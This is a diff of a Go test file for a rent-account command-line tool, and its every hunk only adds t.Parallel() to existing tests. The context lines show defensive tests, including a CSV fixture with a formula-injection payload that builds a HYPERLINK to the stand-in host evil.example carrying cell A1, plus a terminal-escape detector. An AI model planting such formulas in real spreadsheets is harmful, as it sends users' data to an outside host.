@@ -29,6 +29,7 @@ func (c *cli) exec(queries ...string) {
 func hostile(s string) bool { return strings.ContainsAny(s, "\x1b\x07\u009b\u009d") }
 
 func TestStoredTerminalEscapesNeverReachTheCLIOutput(t *testing.T) {
+	t.Parallel()
 	c := newCLI(t)
 	twoAccounts(c)
 	c.ok("post", "NW3001", "500.00", "--type", "charge", "--date", "2026-11-02")
@@ -71,6 +72,7 @@ func TestStoredTerminalEscapesNeverReachTheCLIOutput(t *testing.T) {
 }
 
 func TestCSVCellsThatAreFormulasAreNeutralised(t *testing.T) {
+	t.Parallel()
 	c := newCLI(t)
 	accounts := c.file("accounts.csv", "ref,kind,status,name,address,start_date,weekly_rent\n"+
 		"NW4001,rent,current,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",@SUM(1+1) Road,2026-06-01,100.00\n")
@@ -116,6 +118,7 @@ func TestCSVCellsThatAreFormulasAreNeutralised(t *testing.T) {
 }
 
 func TestCSVCell(t *testing.T) {
+	t.Parallel()
 	for in, want := range map[string]string{
 		"=1+2": "'=1+2", "+44 7700 900301": "'+44 7700 900301", "-cmd": "'-cmd", "@SUM(A1)": "'@SUM(A1)",
 		"\tx": "'\tx", "\rx": "'\rx", "-112.50": "-112.50", "+3": "+3", "-5": "-5", "12.5": "12.5",
@@ -160,6 +163,7 @@ func FuzzCSVWriter(f *testing.F) {
 }
 
 func TestHostileArgumentsAreRefusedAndNothingIsWritten(t *testing.T) {
+	t.Parallel()
 	c := newCLI(t)
 	twoAccounts(c)
 	before := c.dump()
@@ -200,6 +204,7 @@ func TestHostileArgumentsAreRefusedAndNothingIsWritten(t *testing.T) {
 }
 
 func TestCardNumbersInArgumentsAreMaskedAndTheOfficerTold(t *testing.T) {
+	t.Parallel()
 	c := newCLI(t)
 	twoAccounts(c)
 	r := c.run("note", "NW3001", "paid by card 4111.1111.1111.1111 today")
@@ -217,6 +222,7 @@ func TestCardNumbersInArgumentsAreMaskedAndTheOfficerTold(t *testing.T) {
 }
 
 func TestIngestRefusalsWriteNothing(t *testing.T) {
+	t.Parallel()
 	c := newCLI(t)
 	accounts := c.file("accounts.csv", "ref,kind,status,name,address,start_date,weekly_rent\nNW5001,rent,current,Sam,1 Road,2026-10-05,100.00\n")
 	c.ok("ingest", "accounts", accounts)
@@ -256,6 +262,7 @@ func TestIngestRefusalsWriteNothing(t *testing.T) {
 }
 
 func TestPrintableWriterKeepsCharactersSplitBetweenWrites(t *testing.T) {
+	t.Parallel()
 	var out strings.Builder
 	w := newPrintableWriter(&out)
 	pound := []byte("£")
